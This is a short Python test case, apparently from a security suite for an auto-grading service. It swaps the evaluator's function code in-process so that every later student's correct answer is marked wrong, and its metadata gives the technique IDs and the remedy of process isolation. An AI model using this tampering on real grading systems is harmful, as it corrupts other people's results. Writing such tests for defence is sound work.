# SPDX-License-Identifier: MIT
"""Goal:  the next student's right answer is marked wrong.
Means: the evaluation function's __code__. Rebinding a name helps only against those who look it up
       again; a function whose code is exchanged is another function for all who hold it.
"""

import sys

from attack import DONE, attempting, denied, submit


def nobody_is_right(response, answer, params):
    return {"is_correct": False, "feedback": "try again"}


def run(brief):
    submit("0")
    attempting()
    evaluator = sys.modules.get("evaluator")
    if not evaluator:
        return denied("sys.modules", "no evaluator in this process")
    evaluator.evaluation_function.__code__ = nobody_is_right.__code__
    return DONE


ATTACK = {
    "effect": "the evaluator marks everybody wrong",
    "means": "the code of evaluation_function exchanged for another",
    "oracle": "grade:spoiled",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "id": "WARM-06",
    "attack_id": "T1565.003, CWE-913",
    "remedy": "a process of its own for each submission; the evaluator in another",
    "run": run,
}
